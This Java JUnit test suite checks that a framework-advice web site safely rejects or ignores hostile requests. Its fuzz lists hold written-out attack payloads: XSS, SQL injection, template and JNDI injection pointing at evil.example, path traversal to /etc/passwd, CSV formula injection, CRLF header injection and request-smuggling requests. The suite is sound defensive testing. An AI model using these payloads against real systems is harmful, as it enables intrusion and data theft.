package io.frameworkadvisor.web.guard;

import static org.assertj.core.api.Assertions.assertThat;

import io.frameworkadvisor.web.LiveSite;
import io.frameworkadvisor.web.SiteTest;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;

/** Whatever somebody sends: an answer of the site's own, never a failure and never a look inside. */
@SiteTest
class BadInputIntegrationTests {

    private static final List<String> PAGES = List.of(
            "/",
            "/questions",
            "/questions/purpose",
            "/review",
            "/advice",
            "/advice.json",
            "/advice.md",
            "/advice.csv",
            "/advice.adr.md",
            "/embed",
            "/pictures/advice.png",
            "/pictures/badge.svg",
            "/pictures/qr.svg",
            "/frameworks",
            "/frameworks/django",
            "/compare",
            "/compare.md",
            "/method",
            "/fairness",
            "/r/AAAAAAAAAAAAAAAAAAAAAA",
            "/api/v1/questionnaire",
            "/api/v1/agreement",
            "/api/v1/fairness",
            "/api/v1/advice",
            "/api/v1/frameworks",
            "/api/v1/frameworks/django",
            "/api/v1/links/AAAAAAAAAAAAAAAAAAAAAA",
            "/v3/api-docs",
            "/assets/site.css",
            "/actuator/health");

    private static final List<String> PARAMETERS = List.of(
            "product",
            "need",
            "team",
            "q",
            "category",
            "status",
            "frameworks",
            "differences",
            "facet",
            "return",
            "nope");

    private static final List<String> NAUGHTY = List.of(
            "",
            " ",
            "undefined",
            "null",
            "NaN",
            "true",
            "-1",
            "1e400",
            "99999999999999999999999999",
            "0x0",
            "1/0",
            "\\",
            "\u0000",
            "a\u0000b",
            "\r\nSet-Cookie: evil=1",
            "\t\u000b\f\u0085",
            "\u200b\u200e\u2028\u2029\ufeff",
            "\u202etest\u202c",
            "\u5468\u672c\u592a\u90ce",
            "\u0645\u0631\u062d\u0628\u0627",
            "\ud83d\ude00\ud83c\uddee\ud83c\uddf9",
            "Z\u0351\u036b\u0343\u036a\u0302",
            "\u00e9 e\u0301",
            "\u0130\u0131\u1e9e",
            "\uffff\ufffe",
            "<script>alert(1)</script>",
            "\"><svg onload=alert(1)>",
            "' onfocus=alert(1) autofocus='",
            "javascript:alert(1)",
            "</title><h1>",
            "<!--",
            "&lt;b&gt;&#60;",
            "1;DROP TABLE share_link",
            "' OR 1=1 --",
            "${7*7}",
            "#{T(java.lang.Runtime).getRuntime()}",
            "*{7*7}",
            "__${7*7}__::.x",
            "~{fragments/layout}",
            "${jndi:ldap://evil.example/a}",
            "%s%n%x",
            "%25zz",
            "../../../../etc/passwd",
            "//evil.example",
            "\\\\evil.example\\share",
            "file:///etc/passwd",
            "=cmd|' /C calc'!A0",
            "{\"a\":1}",
            "a,b,,c,",
            "[]");

    @Autowired
    private LiveSite site;

    static Stream<String> endpoints() {
        return PAGES.stream();
    }

    static Stream<String> naughty() {
        return NAUGHTY.stream();
    }

    private String get(String target) {
        return site.raw("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
    }

    private String post(String target, String type, String body) {
        return site.raw(
                "POST " + target + " HTTP/1.1\r\nHost: localhost\r\nSec-Fetch-Site: same-origin\r\nContent-Type: "
                        + type + "\r\nContent-Length: " + body.length() + "\r\nConnection: close\r\n\r\n" + body);
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private static int status(String answer) {
        return Integer.parseInt(answer.substring("HTTP/1.1 ".length(), "HTTP/1.1 200".length()));
    }

    private static String head(String answer) {
        return answer.substring(0, answer.indexOf("\r\n\r\n") + 2);
    }

    /** The answer is one of our own: a page, a document or a problem document, and shows nothing of the inside. */
    private static void assertOurs(String sent, String answer) {
        assertThat(answer).as("an answer to " + sent).startsWith("HTTP/1.1 ");
        assertThat(status(answer)).as("status of " + sent).isBetween(200, 499);
        assertThat(head(answer)).contains("Content-Security-Policy: default-src 'none'");
        assertThat(answer)
                .doesNotContain("\tat ", "Exception: ", "org.springframework", "org.apache", "Tomcat", "HTTP Status");
        if (status(answer) >= 400) {
            String type = head(answer).replaceFirst("(?s).*\r\nContent-Type: ([^;\r]*).*", "$1");
            assertThat(type).isIn("text/html", "application/problem+json");
            assertThat(answer)
                    .containsPattern(
                            type.equals("text/html") ? "<h1>(This|There is no) " : "\"status\":" + status(answer));
        }
    }

    @Nested
    class Parameters {

        @ParameterizedTest
        @MethodSource("io.frameworkadvisor.web.guard.BadInputIntegrationTests#endpoints")
        void thatAreMalformedAreRefusedOrPassedOver(String path) {
            Stream.of(
                            "product=%zz",
                            "product=%",
                            "product=%0",
                            "product=%00",
                            "product=%C3%28",
                            "product=%ED%A0%80",
                            "product=%ED%B0%80",
                            "product=%F4%90%80%80",
                            "product=%C0%AF",
                            "product=%ff%fe",
                            "%zz=1",
                            "%00=1",
                            "=1",
                            "&&&",
                            "=",
                            "product",
                            "product[]=json-api",
                            "frameworks[0].slug={x}",
                            "q=<>\"`^|\\",
                            "product=a&product=b&product=json-api&team=small&team=large",
                            "class.module.classLoader=x",
                            "q=" + "x".repeat(7_000))
                    .forEach(query -> assertOurs(path + "?" + query, get(path + "?" + query)));
        }

        @ParameterizedTest
        @MethodSource("io.frameworkadvisor.web.guard.BadInputIntegrationTests#endpoints")
        void thatAreTooManyAreRefusedOrPassedOver(String path) {
            String many = IntStream.range(0, 1_001).mapToObj(i -> "a" + i + "=").collect(Collectors.joining("&"));

            assertOurs(path + " with 1 001 parameters", get(path + "?" + many));
            assertOurs(path + " with a value of 100 kB", get(path + "?q=" + "x".repeat(100_000)));
        }

        @ParameterizedTest
        @MethodSource("io.frameworkadvisor.web.guard.BadInputIntegrationTests#naughty")
        void thatAreNaughtyAreTextLikeAnyOther(String value) {
            for (String path : List.of("/advice", "/questions/purpose", "/frameworks", "/compare", "/api/v1/advice")) {
                String query =
                        PARAMETERS.stream().map(it -> it + "=" + encoded(value)).collect(Collectors.joining("&"));
                String answer = get(path + "?" + query + "&" + encoded(value) + "x=1");

                assertOurs(path + "?" + query, answer);
                assertThat(status(answer)).isEqualTo(200);
                assertThat(head(answer)).doesNotContain("Set-Cookie", "evil");
                if (!path.startsWith("/api")) {
                    assertThat(answer).doesNotContain("<script", "<svg onload", "<h1><", "' onfocus=alert");
                }
                assertThat(answer).doesNotContain(">49<", "“49”");
            }
        }
    }

    @Nested
    class Paths {

        @ParameterizedTest
        @MethodSource("io.frameworkadvisor.web.guard.BadInputIntegrationTests#naughty")
        void thatAreNaughtyAreNotFoundOrRefused(String value) {
            String segment = encoded(value).replace("+", "%20");
            for (String path : List.of("/frameworks/", "/questions/", "/r/", "/assets/", "/api/v1/links/", "/")) {
                assertOurs(path + segment, get(path + segment));
            }
        }

        @Test
        void thatClimbOrBreakAreNotFoundOrRefused() {
            Stream.of(
                            "/../../etc/passwd",
                            "/%2e%2e/%2e%2e/etc/passwd",
                            "/assets/../application.properties",
                            "/assets/..%2f..%2fapplication.properties",
                            "/assets/%2e%2e%5capplication.properties",
                            "/assets/..;/..;/application.properties",
                            "/assets/%252e%252e/application.properties",
                            "/frameworks/%00",
                            "/frameworks/%zz",
                            "/frameworks/%C3%28",
                            "/r/%ED%A0%80",
                            "/r/a%0d%0aSet-Cookie:%20evil=1",
                            "/r/x.ics",
                            "/r/x.css",
                            "/r/AAAAAAAAAAAAAAAAAAAAAA.css",
                            "/r/AAAAAAAAAAAAAAAAAAAAAA;x=.css",
                            "/advice.ics",
                            "/advice.xml",
                            "/frameworks/django.css",
                            "/questions/purpose.ics",
                            "/advice/",
                            "//evil.example/..",
                            "/\\evil.example",
                            "/{x}",
                            "/a|b",
                            "/a\"b",
                            "/\u00e9",
                            "/" + "x".repeat(7_000),
                            "/" + "x".repeat(100_000),
                            "/" + "a/".repeat(3_000))
                    .forEach(path -> {
                        String answer = get(path);
                        assertOurs(path, answer);
                        assertThat(status(answer)).as(path).isBetween(400, 499);
                        assertThat(head(answer)).doesNotContain("Set-Cookie", "Location");
                    });
        }
    }

    @Nested
    class Documents {

        @Test
        void thatAreNoObjectOfAnswersAreRefused() {
            Stream.of(
                            "",
                            "null",
                            "[]",
                            "true",
                            "1",
                            "1e400",
                            "\"x\"",
                            "{}",
                            "{\"answers\":null}",
                            "{\"answers\":[]}",
                            "{\"answers\":\"x\"}",
                            "{\"answers\":{\"product\":5}}",
                            "{\"answers\":{\"product\":null}}",
                            "{\"answers\":{\"nope\":null}}",
                            "{\"answers\":{\"product\":[null]}}",
                            "{\"answers\":{\"product\":[{}]}}",
                            "{\"answers\":{\"product\":[[[\"x\"]]]}}",
                            "{\"answers\":",
                            "{\"answers\":{\"product\":[\"\u00c3(\"]}}",
                            "{\"answers\":{\"\u0000\":[]}}",
                            "{\"answers\":{\"\\ud800\":[\"\\udc00\"]}}",
                            "[".repeat(5_000) + "]".repeat(5_000),
                            "[".repeat(60_000),
                            "{\"answers\":" + "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_001),
                            "{\"answers\":{\"product\":[\"" + "x".repeat(100_000) + "\"]}}",
                            "{\"answers\":{\"" + "k".repeat(100_000) + "\":[]}}",
                            "{\"answers\":{\"product\":[" + "\"x\",".repeat(30_000) + "\"x\"]}}",
                            "{\"answers\":" + "9".repeat(60_000) + "}")
                    .forEach(body -> {
                        String sent = body.substring(0, Math.min(60, body.length()));
                        String answer = post("/api/v1/links", "application/json", body);
                        assertOurs(sent, answer);
                        assertThat(status(answer)).as(sent).isEqualTo(400);
                        assertThat(head(answer)).contains("Content-Type: application/problem+json");
                    });
        }

        @Test
        void withStrangeTextInThemAreReadAndTheTextIsPassedOver() {
            Stream.of(
                            "{\"answers\":{\"product\":[\"\\ud800\"]}}",
                            "{\"answers\":{\"product\":[\"\\u0000\"]}}",
                            "{\"answers\":{\"\":[\"\"]}}",
                            "{\"answers\":{\"product\":[\"json-api\"]},\"token\":\"x\",\"class\":{}}")
                    .forEach(body -> {
                        String answer = post("/api/v1/links", "application/json", body);
                        assertOurs(body, answer);
                        assertThat(status(answer)).as(body).isEqualTo(201);
                    });
        }

        @Test
        void inAnotherFormatAreRefused() {
            Stream.of(
                            "text/xml",
                            "application/json;charset=nope",
                            "application/x-java-serialized-object",
                            "multipart/form-data",
                            "multipart/form-data; boundary=x",
                            ";;;",
                            "a/b/c",
                            "x".repeat(3_000))
                    .forEach(type -> {
                        for (String path : List.of("/links", "/api/v1/links")) {
                            String answer = post(path, type, "--x\r\n{}");
                            assertOurs(path + " " + type, answer);
                            assertThat(status(answer)).as(path + " " + type).isBetween(400, 499);
                        }
                    });
        }

        @ParameterizedTest
        @MethodSource("io.frameworkadvisor.web.guard.BadInputIntegrationTests#naughty")
        void thatAreNaughtyFormsLeadToALinkOfTheRest(String value) {
            String answer = post(
                    "/links",
                    "application/x-www-form-urlencoded",
                    "product=json-api&need=" + encoded(value) + "&" + encoded(value) + "x=" + encoded(value));

            assertOurs(value, answer);
            assertThat(status(answer)).isEqualTo(303);
            assertThat(head(answer)).containsPattern("\r\nLocation: /r/[A-Za-z0-9_-]{22}\r\n");
        }

        @Test
        void thatAreMalformedFormsAreRefused() {
            Stream.of(
                            "product=%zz",
                            "product=%C3%28",
                            "product=" + "x".repeat(65_537),
                            "product=" + "x".repeat(1_000_000),
                            IntStream.range(0, 1_001)
                                    .mapToObj(i -> "a" + i + "=1")
                                    .collect(Collectors.joining("&")))
                    .forEach(body -> {
                        String sent = body.substring(0, Math.min(60, body.length()));
                        String answer = post("/links", "application/x-www-form-urlencoded", body);
                        assertOurs(sent, answer);
                        assertThat(status(answer)).as(sent).isIn(400, 413);
                    });
        }
    }

    @Nested
    class Requests {

        @Test
        void thatAreNoHttpAreRefused() {
            Stream.of(
                            "GET / HTTP/1.1\r\n\r\n",
                            "GET / HTTP/1.1\r\nHost: a b\r\nConnection: close\r\n\r\n",
                            "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
                            "GET / HTTP/1.1\r\nHost: a\r\nno colon\r\nConnection: close\r\n\r\n",
                            "GET / HTTP/1.1\r\nHost: a\r\nX: " + "x".repeat(9_000) + "\r\nConnection: close\r\n\r\n",
                            "G\u0000T / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
                            "GET /\u0000 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
                            "GET * HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
                            "POST /links HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\nConnection: close\r\n\r\n",
                            "POST /links HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n"
                                    + "Connection: close\r\n\r\nxxxxxx",
                            "POST /links HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n"
                                    + "Connection: close\r\n\r\nxxxxx",
                            "POST /links HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n")
                    .forEach(request -> {
                        String sent = request.substring(0, Math.min(90, request.length()));
                        String answer = site.raw(request);
                        assertOurs(sent, answer);
                        assertThat(status(answer)).as(sent).isBetween(400, 499);
                    });
        }

        @Test
        void withStrangeHeadersAreAnswered() {
            Stream.of(
                            "Accept: ///",
                            "Accept: text/html;q=x",
                            "Accept: " + "text/html,".repeat(700),
                            "Accept-Language: ;;;q=x",
                            "Accept-Language: " + "x".repeat(1_000),
                            "Accept-Charset: nope",
                            "Accept-Encoding: \u00ff",
                            "User-Agent: ",
                            "Cookie: a=\u0000",
                            "Cookie: JSESSIONID=" + "x".repeat(2_000),
                            "If-Modified-Since: garbage",
                            "If-None-Match: garbage",
                            "Range: bytes=9999999-",
                            "Range: bytes=a-b",
                            "Expect: nonsense",
                            "X-HTTP-Method-Override: DELETE",
                            "Origin: \u0001",
                            "Sec-Fetch-Site: \u00e9")
                    .forEach(header -> {
                        for (String path :
                                List.of("/", "/advice?product=json-api", "/api/v1/frameworks", "/assets/site.css")) {
                            assertOurs(
                                    header + " " + path,
                                    site.raw("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                                            + header + "\r\n\r\n"));
                        }
                    });
        }
    }
}
